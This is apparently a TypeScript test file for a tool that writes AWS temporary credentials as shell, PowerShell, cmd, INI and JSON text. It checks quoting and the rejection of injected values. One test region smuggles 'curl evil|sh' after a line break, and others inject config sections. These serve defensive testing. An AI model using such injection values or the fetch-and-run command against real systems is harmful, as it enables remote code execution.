/** What holds for every format, asked of each row of the table. Shells and clients have their own tests. */

import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { awsEnvironment, shadowingNames } from "./aws-environment";
import type { FormatInput } from "./credential-format";
import { formats, isFormatId } from "./formats";

const input: FormatInput = {
  credentials: {
    accessKeyId: "ASIAEXAMPLEEXAMPLE00",
    secretAccessKey: "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY",
    sessionToken: "IQoJb3JpZ2luX2VjEXAMPLE+/token==",
    expiresAt: new Date("2026-11-21T04:00:00.999Z"),
  },
  region: "eu-central-1",
  accountId: "012345678901",
  profileName: "012345678901_ReadOnly_keys",
};
const secrets = [input.credentials.secretAccessKey, input.credentials.sessionToken];
const withKeys = (keys: Partial<FormatInput["credentials"]>): FormatInput => ({
  ...input,
  credentials: { ...input.credentials, ...keys },
});

/** Line breaks, other controls, blanks, and what is not ASCII: curly quotes, line separators, direction marks, half a character. */
const invisible = fc.constantFrom(
  ..."\n\r\t\0\u001b\u007f\u0085 \u00a0\u2018\u2019\u2028\u2029\u202e\ufeffé\ud800",
);

test("the environment is the keys, their end, their account, and both of the region's names", () => {
  expect(Object.fromEntries(awsEnvironment(input))).toEqual({
    AWS_ACCESS_KEY_ID: "ASIAEXAMPLEEXAMPLE00",
    AWS_SECRET_ACCESS_KEY: "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY",
    AWS_SESSION_TOKEN: "IQoJb3JpZ2luX2VjEXAMPLE+/token==",
    AWS_CREDENTIAL_EXPIRATION: "2026-11-21T04:00:00+00:00",
    AWS_ACCOUNT_ID: "012345678901",
    AWS_REGION: "eu-central-1",
    AWS_DEFAULT_REGION: "eu-central-1",
  });
});

describe.each(Object.entries(formats))("%s", (id, format) => {
  test("is known by its own id, and says in sentences what it is for", () => {
    expect(format.id).toBe(id);
    expect(format.label).not.toBe("");
    expect(format.fileName).toMatch(/^[a-z][a-z0-9.-]*$/);
    expect(format.quoting).toMatch(/^[A-Z].*\.$/);
    expect(format.whenToUse).toMatch(/^[A-Z].*\.$/);
  });

  test("holds all three values, the account and a time that is never later than the true one", () => {
    const text = format.render(input);
    for (const value of [input.credentials.accessKeyId, ...secrets, input.accountId])
      expect(text).toContain(value);
    expect(text).toContain("2026-11-21T04:00:00+00:00");
    expect(text.endsWith("\n")).toBe(true);
  });

  test("names no region when none was chosen", () => {
    expect(format.render({ ...input, region: undefined })).not.toMatch(/region/i);
    expect(format.undo({ ...input, region: undefined })).not.toMatch(/region/i);
  });

  test("is undone without any secret", () => {
    for (const value of [input.credentials.accessKeyId, ...secrets])
      expect(format.undo(input)).not.toContain(value);
  });

  test("has no line that a shell which takes no comments would run", () => {
    if (format.id === "ini") return;
    expect(`${format.render(input)}${format.undo(input)}`).not.toMatch(/^\s*#/m);
  });

  test.each(["accessKeyId", "secretAccessKey", "sessionToken"] as const)(
    "refuses a %s that could end a line or hide, and never shows it",
    (name) => {
      fc.assert(
        fc.property(fc.base64String(), invisible, fc.base64String(), (before, character, after) => {
          const value = `HIDDEN${before}${character}${after}`;
          expect(() => format.render(withKeys({ [name]: value }))).toThrow(
            expect.objectContaining({ message: expect.not.stringContaining("HIDDEN") }),
          );
        }),
      );
    },
  );

  test("refuses an empty value, a region with a line break, and an expiry that is no time", () => {
    expect(() => format.render(withKeys({ sessionToken: "" }))).toThrow("session token");
    expect(() => format.render(withKeys({ expiresAt: new Date(Number.NaN) }))).toThrow("expiry");
    expect(() => format.render({ ...input, accountId: "1\n[default]" })).toThrow("account id");
    // JSON has no place for a region, and still does not pass one over in silence.
    expect(() => format.render({ ...input, region: "eu-west-1\ncurl evil|sh" })).toThrow("region");
  });

  const textOrFault = (from: FormatInput) => {
    try {
      return format.render(from);
    } catch (fault) {
      return String(fault);
    }
  };

  test("a character that it cannot quote is refused without showing the value", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme-ascii", minLength: 1 }), (tail) => {
        expect(textOrFault(withKeys({ secretAccessKey: `HIDDEN${tail}` }))).not.toMatch(/^Error.*HIDDEN/s);
      }),
    );
  });
});

/**
 * PowerShell and cmd run on few machines that test this, so their texts are held against the grammar of the lines they may
 * consist of: whatever the value, the line has one string in it, and that string reads back as the value.
 */
const anyValue = fc.string({ unit: fc.constantFrom(..."'\"`$%!^&|<>(){}[];,~*?#=@\\/+aZ0"), minLength: 1 });

test("PowerShell: every line removes a variable or sets one to a single string, which reads back as the value", () => {
  fc.assert(
    fc.property(anyValue, (value) => {
      const lines = formats.powershell
        .render(withKeys({ sessionToken: value }))
        .trimEnd()
        .split("\n");
      const read = lines.map((line) => /^\$Env:(\w+) = (?:\$null|'((?:[^']|'')*)')$/.exec(line));
      expect(read).not.toContain(null);
      const variables = new Map(read.map((line) => [line?.[1], line?.[2]?.replaceAll("''", "'")]));
      expect(variables.get("AWS_SESSION_TOKEN")).toBe(value);
      for (const name of shadowingNames)
        expect([variables.has(name), variables.get(name)]).toEqual([true, undefined]);
    }),
  );
});

test("cmd: every line sets one variable between quotes, and holds nothing that cmd would expand there", () => {
  fc.assert(
    fc.property(anyValue, (value) => {
      const hostile = withKeys({ sessionToken: value });
      if (/["%!]/.test(value)) {
        expect(() => formats.cmd.render(hostile)).toThrow("AWS_SESSION_TOKEN");
        return;
      }
      const lines = formats.cmd.render(hostile).trimEnd().split("\n");
      const read = lines.map((line) => /^@set "(\w+)=([^"%!]*)"$/.exec(line));
      expect(read).not.toContain(null);
      const variables = new Map(read.map((line) => [line?.[1], line?.[2]]));
      expect(variables.get("AWS_SESSION_TOKEN")).toBe(value);
      for (const name of shadowingNames) expect(variables.get(name)).toBe("");
    }),
  );
});

test("cmd: a value that does not fit into one line is refused", () => {
  expect(() => formats.cmd.render(withKeys({ sessionToken: "A".repeat(8191) }))).toThrow("too long");
});

test("the file block refuses a name that some tool cannot read, or that means something else", () => {
  for (const profileName of [
    "",
    "a b",
    "a]\n[default]",
    "default",
    "DEFAULT",
    "__proto__",
    "a=b",
    "prod#",
    "é",
  ]) {
    expect(() => formats.ini.render({ ...input, profileName })).toThrow("profile's name");
    expect(() => formats.ini.undo({ profileName })).toThrow("profile's name");
  }
});

test("a word that is no format is not one, whatever objects inherit", () => {
  expect(Object.keys(formats).every(isFormatId)).toBe(true);
  for (const word of ["toString", "__proto__", "constructor", "", "Bash", undefined, null, 0])
    expect(isFormatId(word)).toBe(false);
});
